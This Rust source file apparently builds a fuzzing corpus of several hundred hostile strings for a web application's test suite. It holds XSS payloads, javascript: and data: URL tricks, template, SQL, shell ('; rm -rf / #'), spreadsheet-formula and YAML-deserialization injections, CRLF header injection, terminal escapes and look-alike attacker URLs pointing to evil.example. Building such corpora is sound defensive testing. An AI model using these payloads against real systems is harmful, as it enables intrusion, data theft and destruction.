//! Texts that try to be more than text: code for every place in which a careless page would put them, addresses that
//! run something, characters that reorder, hide or break what stands around them, words that no layout expects.
//!
//! Whatever a text of these runs sets `window.__pwned`, and whatever it loads comes from `evil.example`: so a journey
//! sees both. Pure: it must not know where the texts go.

use std::sync::LazyLock;

/// How long the longest words are.
pub const LONGEST_WORD: usize = 10_000;

/// All texts, without doubles, always in the same order.
#[must_use]
pub fn texts() -> &'static [String] {
    static TEXTS: LazyLock<Vec<String>> = LazyLock::new(|| {
        let mut texts: Vec<String> = LITERAL.iter().map(|text| (*text).to_owned()).collect();
        texts.extend(elements());
        texts.extend(addresses());
        texts.extend(hidden_characters());
        texts.extend(long_words());
        let mut seen = std::collections::HashSet::new();
        texts.retain(|text| seen.insert(text.clone()));
        texts
    });
    &TEXTS
}

/// The places of those among [`texts`] that have a scheme or a host: for fields that hold an address.
#[must_use]
pub fn addresses_among() -> &'static [usize] {
    static PLACES: LazyLock<Vec<usize>> = LazyLock::new(|| {
        let is_address =
            |text: &str| !text.starts_with(['<', '"', '\'', '`']) && (text.contains(':') || text.contains("//"));
        texts().iter().enumerate().filter(|(_, text)| is_address(text)).map(|(place, _)| place).collect()
    });
    &PLACES
}

/// What ends the place that a text was put into, so that what follows is read as HTML.
const WAYS_OUT: &[&str] = &["", "\">", "'>", "`>", "</title>", "</textarea>", "</script>", "</style>", "-->", "]]>"];

/// Elements that run or load something.
const ELEMENTS: &[&str] = &[
    "<script>window.__pwned=1</script>",
    "<script src=https://evil.example/x.js></script>",
    "<img src=x onerror=window.__pwned=1>",
    "<img src=https://evil.example/spy.png>",
    "<svg onload=window.__pwned=1>",
    "<svg><animate onbegin=window.__pwned=1 attributeName=x dur=1s>",
    "<iframe srcdoc=\"<script>parent.__pwned=1</script>\"></iframe>",
    "<iframe src=javascript:window.__pwned=1>",
    "<a href=\"javascript:window.__pwned=1\">open</a>",
    "<details open ontoggle=window.__pwned=1>",
    "<input autofocus onfocus=window.__pwned=1>",
    "<video><source onerror=window.__pwned=1></video>",
    "<object data=javascript:window.__pwned=1></object>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>Sign in</button></form>",
    "<style>*{display:none!important}</style>",
    "<template><script>window.__pwned=1</script></template>",
    "<math><mtext><table><mglyph><style><img src=x onerror=window.__pwned=1>",
];

fn elements() -> impl Iterator<Item = String> {
    WAYS_OUT.iter().flat_map(|way_out| ELEMENTS.iter().map(move |element| format!("{way_out}{element}")))
}

/// What stands after the scheme of an address.
const SCHEMES: &[(&str, &str)] = &[
    ("javascript", "window.__pwned=1"),
    ("javascript", "//evil.example/%0awindow.__pwned=1"),
    ("vbscript", "msgbox(1)"),
    ("data", "text/html,<script>parent.__pwned=1</script>"),
    ("data", "text/html;base64,PHNjcmlwdD5wYXJlbnQuX19wd25lZD0xPC9zY3JpcHQ+"),
    ("blob", "https://evil.example/0"),
    ("file", "///etc/passwd"),
];

/// Ways to write an address so that a check reads another scheme than the browser does (Argo CD CVE-2022-31035 and
/// GHSA-jwv5-8mqv-g387 among them).
fn addresses() -> impl Iterator<Item = String> {
    SCHEMES.iter().flat_map(|(scheme, rest)| {
        let (upper, (head, tail)) = (scheme.to_uppercase(), scheme.split_at(2));
        [
            format!("{scheme}:{rest}"),
            format!("{upper}:{rest}"),
            format!(" \u{1}{scheme}:{rest}"),
            format!("\n{scheme}:{rest}"),
            format!("{head}\t{tail}:{rest}"),
            format!("{head}\r\n{tail}:{rest}"),
            format!("{head}\0{tail}:{rest}"),
            format!("{scheme}\t:{rest}"),
            format!("{scheme}&colon;{rest}"),
            format!("{scheme}%3a{rest}"),
            format!("https://example.com/|{scheme}:{rest}"),
            format!("Runbook|{scheme}:{rest}"),
            format!("https://example.com/ {scheme}:{rest}"),
        ]
    })
}

/// Characters that nobody sees, or that only change what stands around them.
fn hidden_characters() -> impl Iterator<Item = String> {
    let controls = (0..=0x1f).chain(0x7f..=0x9f).filter_map(char::from_u32);
    let bidi = "\u{202a}\u{202b}\u{202c}\u{202d}\u{202e}\u{2066}\u{2067}\u{2068}\u{2069}\u{200e}\u{200f}\u{61c}";
    let zero_width = "\u{200b}\u{200c}\u{200d}\u{2060}\u{feff}\u{ad}\u{180e}\u{34f}\u{3164}\u{ffa0}\u{e0041}\u{fe0f}";
    let breaks = "\u{2028}\u{2029}\u{a0}\u{3000}\u{fffc}\u{fffd}\u{fffe}\u{ffff}\u{fdd0}\u{e000}\u{10ffff}";
    let inside = controls.chain(bidi.chars()).chain(zero_width.chars()).chain(breaks.chars());
    inside.map(|hidden| format!("pay{hidden}gnp.exe")).chain(bidi.chars().map(|mark| format!("{mark}drowssap")))
}

fn long_words() -> Vec<String> {
    let zalgo: String = "zalgo".chars().map(|c| format!("{c}{}", "\u{310}\u{35f}\u{489}\u{334}".repeat(12))).collect();
    vec![
        "W".repeat(LONGEST_WORD),
        "0".repeat(400),
        "👩‍👩‍👧‍👦".repeat(120),
        "\u{202e}".repeat(200) + "end",
        "ﷺ".repeat(60),
        "ด".to_owned() + &"\u{e47}".repeat(200),
        "Donaudampfschifffahrtsgesellschaft".repeat(20),
        "words ".repeat(400),
        "line\n".repeat(80),
        "東京都".repeat(100),
        "مرحبا بالعالم ".repeat(40),
        format!("{}@{}.example", "a".repeat(300), "b".repeat(300)),
        format!("https://example.com/{}", "path/".repeat(200)),
        format!("https://example.com/?q={}", "%61".repeat(700)),
        format!("https://{}.example/", "sub.".repeat(60)),
        format!("/{}", "../".repeat(300)),
        "(".repeat(500),
        "{\"a\":".repeat(300),
        zalgo,
    ]
}

/// The texts that are no family.
const LITERAL: &[&str] = &[
    // Attributes that are left, and elements that are opened halfway.
    "\" onmouseover=\"window.__pwned=1",
    "' onmouseover='window.__pwned=1",
    "\" autofocus onfocus=window.__pwned=1 x=\"",
    "\" style=\"position:fixed;inset:0\" x=\"",
    "x onclick=window.__pwned=1",
    "<",
    "<!--",
    "<![CDATA[",
    "<plaintext>",
    "<scr<script>ipt>window.__pwned=1</scr</script>ipt>",
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=window.__pwned=1&#62;",
    "\u{ff1c}script\u{ff1e}window.__pwned=1\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-window.__pwned=1+ADw-/script+AD4-",
    "</div></main></body></html>",
    "<noscript><p title=\"</noscript><img src=x onerror=window.__pwned=1>\">",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=window.__pwned=1 )//",
    // Templates of other languages.
    "{{constructor.constructor('window.__pwned=1')()}}",
    "{{7*7}}",
    "{{{raw}}}",
    "${window.__pwned=1}",
    "${{ secrets.PULUMI_ACCESS_TOKEN }}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{% raw %}",
    "[[${7*7}]]",
    "{}",
    "{:?}",
    "{0}",
    "%s%s%n%d",
    "`window.__pwned=1`",
    "$(touch /tmp/pwned)",
    "; rm -rf / #",
    "'; alert(1); //",
    "\\'; alert(1); //",
    "\\",
    "\\u003cscript\\u003e",
    // Addresses with another host than they seem to have.
    "//evil.example/",
    "///evil.example/",
    "/\\evil.example/",
    "\\\\evil.example\\share",
    "https:evil.example",
    "https:/evil.example",
    "https:\\\\evil.example",
    "http://evil.example/",
    "https://app.pulumi.com@evil.example/",
    "https://user:password@evil.example/",
    "https://аpp.pulumi.com/",
    "https://evil.example\u{2044}app.pulumi.com/",
    "https://[::1]/",
    "https://127.0.0.1:6379/",
    "https://evil.example:99999/",
    "https://.evil.example/",
    "ftp://evil.example/",
    "git@evil.example:acme/webshop.git",
    "ssh://-oProxyCommand=touch/x",
    "mailto:mara@acme.example?bcc=all@evil.example",
    "tel:+1234567890",
    "about:blank",
    "view-source:https://evil.example/",
    "intent://evil.example#Intent;scheme=https;end",
    // Paths.
    "../../../api/user",
    "..",
    ".",
    "..%2f..%2fapi%2fuser",
    "%2e%2e%2f",
    "..\\..\\windows",
    "%00",
    "%",
    "%zz",
    "a/b/c",
    "?api=https://evil.example",
    "#/acme",
    "name?x=1&y=2#z",
    // Queries of databases, formulas of spreadsheets.
    "'; DROP TABLE deployments; --",
    "1 OR 1=1",
    "=HYPERLINK(\"https://evil.example/\",\"open\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "a\",\"b",
    "a;b,c\td",
    // Styles.
    "red;background:url(https://evil.example/x.png)",
    "}*{display:none}",
    "expression(window.__pwned=1)",
    "@import 'https://evil.example/x.css';",
    "position:fixed;inset:0;z-index:9999",
    // What terminals obey.
    "\u{1b}[2J\u{1b}[1;1Hcleared",
    "\u{1b}]0;title\u{7}",
    "\u{1b}]52;c;aGVsbG8=\u{7}",
    "\u{1b}]8;;javascript:window.__pwned=1\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}]8;;https://user@evil.example/\u{1b}\\click\u{1b}]8;;\u{1b}\\",
    "\u{1b}[31mred without an end",
    "\u{1b}P+q\u{1b}\\",
    "\u{1b}[99999999999999999999C",
    "\u{9b}31m",
    // Markdown.
    "[open](javascript:window.__pwned=1)",
    "![x](https://evil.example/spy.png)",
    "<https://evil.example/>",
    "[x]: javascript:window.__pwned=1",
    "```\n<script>window.__pwned=1</script>\n```",
    "| a | b |\n|---|---|",
    "# Heading",
    "@everyone",
    // Names that programs keep for themselves.
    "__proto__",
    "constructor",
    "prototype",
    "toString",
    "hasOwnProperty",
    "then",
    "null",
    "undefined",
    "NaN",
    "true",
    "-0",
    "1e999",
    "9007199254740993",
    "0x10",
    "1_000",
    "१२३",
    "{\"__proto__\":{\"isAdmin\":true}}",
    "[{\"ciphertext\":\"x\"}]",
    "{\"secret\":\"x\"}",
    "[secret]",
    "!!python/object/apply:os.system [\"id\"]",
    "*anchor",
    "&anchor x",
    "key: value\nother: - x",
    "--- ",
    // Nothing to see.
    " ",
    "   ",
    "\t",
    "\n",
    "\u{200b}",
    "\u{2800}",
    "\u{ad}",
    " padded ",
    "line\r\nbreak",
    "\r\nSet-Cookie: a=b",
    "\r\n\r\n<script>window.__pwned=1</script>",
    // Scripts and signs.
    "مرحبا",
    "שלום (עולם)!",
    "abc שלום 123",
    "ｆｕｌｌ　ｗｉｄｔｈ",
    "e\u{301}\u{301}\u{301}",
    "🏳️‍🌈🏴‍☠️🇩🇪1️⃣",
    "👍🏿",
    "🇦",
    "\u{1f3fb}",
    "Ünïcödé",
    "İstanbul ıI",
    "ẞß",
    "ﬀ",
    "ǆ",
    "Å\u{212b}A\u{30a}",
    "\u{feff}begins with a mark",
    // Words that a person would trust.
    "This session has expired. Sign in at https://evil.example/",
    "Succeeded",
    "admin",
    "you",
    "— ✓ Verified",
    "acme/webshop/prod",
    "#42",
    // Secrets that somebody put where they do not belong. None is one.
    "Authorization: token pul-0000000000000000000000000000000000000000",
    "password=hunter2",
];

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn there_are_hundreds_and_each_once() {
        let texts = texts();
        assert!(texts.len() >= 400, "only {}", texts.len());
        let distinct: std::collections::BTreeSet<_> = texts.iter().collect();
        assert_eq!(distinct.len(), texts.len());
        assert!(texts.iter().any(|text| text.len() >= LONGEST_WORD && !text.contains(char::is_whitespace)));
    }
}
